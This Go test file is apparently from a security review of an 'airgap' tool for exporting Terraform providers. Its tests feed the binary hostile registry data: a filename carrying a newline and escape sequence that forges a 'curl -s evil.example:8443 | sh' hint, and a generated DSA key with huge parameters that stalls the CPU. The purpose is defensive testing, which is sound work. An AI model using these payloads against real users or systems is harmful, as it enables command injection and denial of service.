package main

// ATTACK TESTS (atk-upstream review) against the real binary. Each TestAttack*
// asserts the behaviour a user depends on; one that FAILS on the reviewed
// main is a finding (see the review report).

import (
	"bytes"
	"crypto/rand"
	"crypto/sha1"
	"encoding/binary"
	"encoding/json"
	"math/big"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/ProtonMail/go-crypto/openpgp/armor"

	"github.com/airgap/airgap/dist/registrytest"
)

// atkExport publishes evil/x 1.0.0 linux_amd64 on the stand-in with an
// honest download document changed by edit, and returns the work directory
// (with keys and m.hcl) and the environment to run the binary in.
func atkExport(t *testing.T, edit func(doc map[string]any)) (string, []string) {
	work := t.TempDir()
	in := registrytest.New(t)
	bp := in.AddProvider(t, "registry.terraform.io", "evil", "x", "1.0.0", []string{"linux_amd64"}, 4<<10)
	pk := bp.Packages[0]
	u := func(name string) string {
		return "https://" + registrytest.PackageURL("registry.terraform.io", "x", "1.0.0", name)
	}
	doc := map[string]any{
		"protocols": []string{"5.0"}, "os": "linux", "arch": "amd64", "filename": pk.Filename,
		"download_url": u(pk.Filename), "shasums_url": u(bp.ShasumsName), "shasums_signature_url": u(bp.ShasumsName + ".sig"),
		"shasum":       pk.Digest.Hex(),
		"signing_keys": map[string]any{"gpg_public_keys": []map[string]string{{"key_id": bp.SigningKeys[0].KeyID, "ascii_armor": bp.SigningKeys[0].ASCIIArmor}}},
	}
	edit(doc)
	in.Handle("registry.terraform.io/v1/providers/evil/x/1.0.0/download/linux/amd64", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(doc)
	}))
	mustRun(t, work, nil, airgapBin, "keygen", "--out", "k/site")
	os.WriteFile(filepath.Join(work, "m.hcl"), []byte("platforms = [\"linux_amd64\"]\nprovider \"evil/x\" {}\n"), 0o644)
	return work, hostileEnv(in, work)
}

// FINDING: a registry-supplied filename with a newline forges a terminal line
// (here a "hint:") in the real binary's error output; escape sequences in the
// same string are escaped.
func TestAttackForgedLineInExportError(t *testing.T) {
	work, env := atkExport(t, func(doc map[string]any) {
		doc["filename"] = "terraform-provider-x.zip\nhint: the registry moved; fix with: curl -s evil.example:8443 | sh\x1b[2K"
	})
	out, err := cmdRun(t, work, env, airgapBin, "export", "--manifest", "m.hcl", "--sign-key", "k/site.key.asc", "--cache", "cache", "--out", "b.bundle")
	t.Logf("exit %d:\n%s", exitCode(err), out)
	if strings.Contains(out, "\x1b") {
		t.Error("an escape sequence reached the terminal")
	}
	for _, l := range strings.Split(out, "\n") {
		if strings.HasPrefix(l, "hint: the registry moved") {
			t.Errorf("the registry forged a line of airgap's output: %q", l)
		}
	}
}

func atkMPI(n *big.Int) []byte {
	return append([]byte{byte(n.BitLen() >> 8), byte(n.BitLen())}, n.Bytes()...)
}

func atkRand(bits int) *big.Int {
	n, _ := rand.Int(rand.Reader, new(big.Int).Lsh(big.NewInt(1), uint(bits)))
	n.SetBit(n, bits-1, 1)
	return n.SetBit(n, 0, 1)
}

// atkHugeDSAKey: an armored DSA public key with bits-bit p and q, one user
// ID and a bogus v4 self-signature (see dist/export/attack_upstream_test.go).
func atkHugeDSAKey(bits int) string {
	pkt := func(tag byte, body []byte) []byte {
		h := []byte{0xC0 | tag, 0xFF, 0, 0, 0, 0}
		binary.BigEndian.PutUint32(h[2:], uint32(len(body)))
		return append(h, body...)
	}
	q := atkRand(bits)
	var pk bytes.Buffer
	pk.Write([]byte{4, 0x60, 0, 0, 0, 17})
	for _, n := range []*big.Int{atkRand(bits), q, atkRand(bits - 8), atkRand(bits - 8)} {
		pk.Write(atkMPI(n))
	}
	h := sha1.New()
	h.Write([]byte{0x99, byte(pk.Len() >> 8), byte(pk.Len())})
	h.Write(pk.Bytes())
	var sig bytes.Buffer
	sig.Write([]byte{4, 0x13, 17, 8, 0, 6, 5, 2, 0x60, 0, 0, 1, 0, 10, 9, 16})
	sig.Write(h.Sum(nil)[12:20])
	sig.Write([]byte{0xAB, 0xCD})
	sig.Write(atkMPI(atkRand(bits - 8)))
	sig.Write(atkMPI(new(big.Int).Sub(q, big.NewInt(1)))) // s = q-1: always invertible, both exponents full size
	raw := append(append(pkt(6, pk.Bytes()), pkt(13, []byte("a <a@evil.example>"))...), pkt(2, sig.Bytes())...)
	var out bytes.Buffer
	w, _ := armor.Encode(&out, "PGP PUBLIC KEY BLOCK", nil)
	w.Write(raw)
	w.Close()
	return out.String()
}

// FINDING: a registry's signing key with huge DSA parameters pins a CPU for
// seconds (24576 bits, this test) to minutes (65535 bits) before the export
// fails, and Ctrl-C (SIGINT) does not end the process meanwhile.
func TestAttackHugeKeyIgnoresInterrupt(t *testing.T) {
	work, env := atkExport(t, func(doc map[string]any) {
		doc["signing_keys"] = map[string]any{"gpg_public_keys": []map[string]string{{"key_id": "0000000000000000", "ascii_armor": atkHugeDSAKey(24576)}}}
	})
	cmd := exec.Command(airgapBin, "export", "--manifest", "m.hcl", "--sign-key", "k/site.key.asc", "--cache", "cache", "--out", "b.bundle")
	cmd.Dir, cmd.Env = work, append(baseEnv(), env...)
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	start := time.Now()
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	time.Sleep(1500 * time.Millisecond)
	cmd.Process.Signal(syscall.SIGINT)
	sent := time.Now()
	err := cmd.Wait()
	t.Logf("exit %d after %s; SIGINT took %s to take effect:\n%s", exitCode(err), time.Since(start).Round(time.Millisecond), time.Since(sent).Round(time.Millisecond), out.String())
	if d := time.Since(sent); d > time.Second {
		t.Errorf("the export ignored SIGINT for %s while checking a registry-supplied key", d.Round(time.Millisecond))
	}
}

// REFUSED: four export processes at once on one cold --cache, with four
// addresses serving identical bytes: every one succeeds and nothing is left in
// partial/.
func TestAttackConcurrentProcessesShareCache(t *testing.T) {
	work := t.TempDir()
	in := registrytest.New(t)
	bp := in.AddProvider(t, "registry.terraform.io", "hashicorp", "null", "3.2.2", []string{"linux_amd64", "darwin_arm64"}, 2<<20)
	in.PublishAlso(bp, "registry.opentofu.org", "hashicorp")
	in.PublishAlso(bp, "registry.terraform.io", "mirror")
	mustRun(t, work, nil, airgapBin, "keygen", "--out", "k/site")
	os.WriteFile(filepath.Join(work, "m.hcl"), []byte(`platforms = ["linux_amd64", "darwin_arm64"]
provider "hashicorp/null" {}
provider "registry.opentofu.org/hashicorp/null" {}
provider "mirror/null" {}
`), 0o644)
	errs := make(chan string, 4)
	for i := range 4 {
		go func() {
			out, err := cmdRun(t, work, hostileEnv(in, work), airgapBin, "export", "--manifest", "m.hcl", "--sign-key", "k/site.key.asc",
				"--cache", "cache", "--out", "b"+string(rune('0'+i))+".bundle")
			if err != nil {
				errs <- err.Error() + "\n" + out
			} else {
				errs <- ""
			}
		}()
	}
	for range 4 {
		if e := <-errs; e != "" {
			t.Errorf("a concurrent export failed: %s", e)
		}
	}
	if left, _ := filepath.Glob(filepath.Join(work, "cache", "partial", "*")); len(left) != 0 {
		t.Errorf("left in partial/: %v", left)
	}
}
